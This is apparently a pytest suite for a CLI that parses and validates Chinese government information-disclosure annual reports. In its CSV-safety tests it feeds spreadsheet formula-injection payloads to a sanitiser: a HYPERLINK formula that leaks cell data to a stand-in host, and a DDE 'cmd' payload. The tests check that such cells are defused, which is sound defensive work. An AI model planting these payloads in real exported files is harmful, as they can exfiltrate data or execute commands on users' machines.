"""`gongkai report check|convert|batch` as an evaluator uses them."""

from __future__ import annotations

import csv
import json
from decimal import Decimal

from gongkai.annualreport.cli import main
from gongkai.annualreport.readers import read_report

from .conftest import DATA, FOUNDING

HONGZE = DATA / "hongze-district-2023.layout.txt"
HUAIAN = DATA / "huaian-city-2024.layout.txt"


def run(capsys, *args):
    code = main(["report", *map(str, args)])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_check_exit_codes(capsys, tmp_path):
    assert run(capsys, "check", FOUNDING)[0] == 0
    assert run(capsys, "check", HONGZE)[0] == 1
    notice = tmp_path / "notice.txt"
    notice.write_text("关于做好春节期间值班工作的通知", encoding="utf-8")
    code, _, err = run(capsys, "check", FOUNDING, notice)
    assert code == 2
    assert "notice.txt" in err and "not an annual report" in err


def test_check_prints_a_readable_table(capsys):
    code, out, _ = run(capsys, "check", HONGZE)
    assert code == 1
    assert "I4" in out and "T4.RV.TOTAL" in out and "2 个错误" in out
    code, out, _ = run(capsys, "check", "--lang", "en", HONGZE)
    assert "2 errors" in out


def test_check_json_for_one_file_is_the_contract(capsys):
    code, out, _ = run(capsys, "check", "--json", FOUNDING)
    data = json.loads(out, parse_float=Decimal)
    assert code == 0
    assert set(data) == {
        "format",
        "layouts",
        "organization",
        "year",
        "published_on",
        "source_url",
        "tables",
        "sections",
        "findings",
    }
    assert data["tables"]["T3"]["R1"] == {
        "NP": 177,
        "LP_BIZ": 7,
        "LP_RES": None,
        "LP_NGO": None,
        "LP_LAW": None,
        "LP_OTHER": None,
        "TOTAL": 184,
    }
    assert data["tables"]["T2"]["PROCUREMENT"]["AMOUNT"] == Decimal("132767.89")
    assert '"AMOUNT": 132767.89' in out
    fees = [f for f in data["findings"] if f["row"] == "FEES"]
    assert fees[0]["rule"] == "S1" and fees[0]["severity"] == "warning"
    assert set(fees[0]) == {"rule", "severity", "table", "row", "column", "expected", "found", "message"}


def test_check_json_for_several_files_is_a_list(capsys):
    code, out, _ = run(capsys, "check", "--json", FOUNDING, HUAIAN)
    data = json.loads(out)
    assert code == 0
    assert [d["year"] for d in data] == [2020, 2024]


def test_previous_year_report_adds_cross_year_warnings(capsys, tmp_path):
    previous = read_report(HUAIAN)
    previous.year = 2023
    previous.tables["T3"]["R4"]["NP"] = 30  # this year's R2 NP is 34
    from gongkai.annualreport.writers.jsonfile import render_json

    path = tmp_path / "previous.json"
    path.write_bytes(render_json(previous)[2])
    code, out, _ = run(capsys, "check", "--json", "--previous", path, HUAIAN)
    findings = json.loads(out)["findings"]
    i6 = [f for f in findings if f["rule"] == "I6"]
    assert code == 0
    assert [(f["row"], f["column"], f["expected"], f["found"]) for f in i6] == [
        ("R2", "NP", 30, 34),
        ("R2", "TOTAL", 103, 34),
    ]


def test_convert_to_json_round_trips(capsys, tmp_path):
    out_path = tmp_path / "founding.json"
    code, _, _ = run(capsys, "convert", FOUNDING, "--to", "json", "-o", out_path)
    assert code == 0
    assert read_report(out_path) == read_report(FOUNDING)


def test_batch_writes_one_row_per_file_and_survives_bad_files(capsys, tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    for source in (FOUNDING, HONGZE, HUAIAN):
        (folder / source.name).write_bytes(source.read_bytes())
    (folder / "broken.pdf").write_bytes(b"%PDF-1.4 this is not really a pdf")
    (folder / "notes.txt").write_text("会议纪要", encoding="utf-8")
    out_csv = tmp_path / "out.csv"
    code, out, _ = run(capsys, "batch", folder, "--csv", out_csv, "--no-progress", "--jobs", "1")
    assert code == 0
    with out_csv.open(encoding="utf-8-sig") as handle:
        rows = {row["file"].rsplit("/", 1)[1]: row for row in csv.DictReader(handle)}
    assert set(rows) == {FOUNDING.name, HONGZE.name, HUAIAN.name, "broken.pdf", "notes.txt"}
    assert rows[FOUNDING.name]["T3_R1_TOTAL"] == "184"
    assert rows[FOUNDING.name]["errors"] == "0"
    assert rows[HONGZE.name]["errors"] == "2"
    assert rows[HONGZE.name]["first_error"].startswith("I4 T4.")
    assert rows[HUAIAN.name]["layout_T3"] == "FMT_2021"
    assert rows["broken.pdf"]["status"] == "unreadable"
    assert rows["notes.txt"]["status"] == "unreadable" and rows["notes.txt"]["first_error"]
    assert "5 files: 3 read, 2 unreadable" in out


def test_batch_csv_cells_cannot_run_as_formulas(capsys, tmp_path):
    """A file named like a formula (its name is a cell of the CSV) is written as text."""
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "=HYPERLINK(1).txt").write_text("会议纪要", encoding="utf-8")
    out_csv = tmp_path / "out.csv"
    run(capsys, "batch", folder, "--csv", out_csv, "--no-progress", "--jobs", "1")
    with out_csv.open(encoding="utf-8-sig") as handle:
        [row] = list(csv.DictReader(handle))
    assert not any(str(value).startswith(("=", "+", "-", "@")) for value in row.values())


def test_safe_cell_quotes_formulas_and_keeps_numbers():
    from gongkai.annualreport.spreadsheet import safe_cell

    assert safe_cell('=HYPERLINK("http://x/?"&A1,"点击")') == '\'=HYPERLINK("http://x/?"&A1,"点击")'
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("＝1+1") == "'＝1+1"
    assert safe_cell("\t=1") == "'\t=1"
    assert safe_cell("-5") == "-5" and safe_cell("+3.5") == "+3.5" and safe_cell(7) == 7
    assert safe_cell("-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0"
    assert safe_cell("关于=的通知") == "关于=的通知"


def test_batch_and_check_read_every_form_by_content_not_by_name(capsys, tmp_path):
    from . import textforms

    folder = tmp_path / "reports"
    folder.mkdir()
    base = read_report(HUAIAN)
    (folder / "report.md").write_text(textforms.as_markdown(base, split=True), encoding="utf-8")
    pingtan = read_report(DATA / "pingtan-zone-2023.page.txt")
    (folder / "crawled.page").write_text(textforms.as_crawled_page(pingtan), encoding="utf-8")
    (folder / "no-suffix").write_bytes((DATA / "pingtan-zone-2023.page.txt").read_bytes())
    (folder / "misnamed.txt").write_bytes((DATA / "huaian-city-2024.pdf").read_bytes())
    (folder / ".hidden").write_text("x", encoding="utf-8")
    out_csv = tmp_path / "out.csv"
    assert run(capsys, "batch", folder, "--csv", out_csv, "--no-progress", "--jobs", "1")[0] == 0
    with out_csv.open(encoding="utf-8-sig") as handle:
        rows = {row["file"].rsplit("/", 1)[1]: row for row in csv.DictReader(handle)}
    assert set(rows) == {"report.md", "crawled.page", "no-suffix", "misnamed.txt"}
    assert {name: (row["status"], row["form"]) for name, row in rows.items()} == {
        "report.md": ("ok", "text"),
        "crawled.page": ("ok", "text"),
        "no-suffix": ("ok", "text"),
        "misnamed.txt": ("ok", "pdf"),
    }
    assert {name: row["T3_R1_TOTAL"] for name, row in rows.items()} == {
        "report.md": "3119",
        "crawled.page": "81",
        "no-suffix": "81",
        "misnamed.txt": "3119",
    }
    # check reads the very same files.
    for name in rows:
        code, out, _ = run(capsys, "check", "--json", folder / name)
        assert code == 0 and json.loads(out)["tables"]["T3"]["R1"]["TOTAL"] in (3119, 81)


def test_an_unreadable_file_gives_a_json_object_with_status_and_reason(capsys, tmp_path):
    notice = tmp_path / "notice.txt"
    notice.write_text("关于做好春节期间值班工作的通知", encoding="utf-8")
    code, out, err = run(capsys, "check", "--json", notice)
    assert code == 2
    data = json.loads(out)
    assert data["status"] == "unreadable" and data["file"] == str(notice)
    assert "not an annual report" in data["reason"] and data["missing"]
    assert err  # and the reason on stderr, as before
    code, out, _ = run(capsys, "check", "--json", notice, FOUNDING)
    data = json.loads(out)
    assert code == 2 and [item.get("status") for item in data] == ["unreadable", None]


def test_the_refusal_names_exactly_what_is_missing_never_what_was_found(capsys, tmp_path):
    # A report cut short inside table 三: its heading is there, its rows are not.
    text = FOUNDING.read_text(encoding="utf-8")
    cut = text[: text.index("（三）不予公开")]
    path = tmp_path / "cut.txt"
    path.write_text(cut, encoding="utf-8")
    code, out, _ = run(capsys, "check", "--json", path)
    data = json.loads(out)
    assert code == 2 and data["status"] == "unreadable"
    assert len(data["missing"]) == 2
    assert data["missing"][0].startswith("三、收到和处理政府信息公开申请情况（表三）：找到标题，但只读到")
    assert data["missing"][1].startswith("四、政府信息公开行政复议、行政诉讼情况（表四）：未找到")
    assert data["found"] == ["一、总体情况", "二、主动公开政府信息情况（表二）"]
    assert not set(data["found"]) & {item.split("：")[0] for item in data["missing"]}
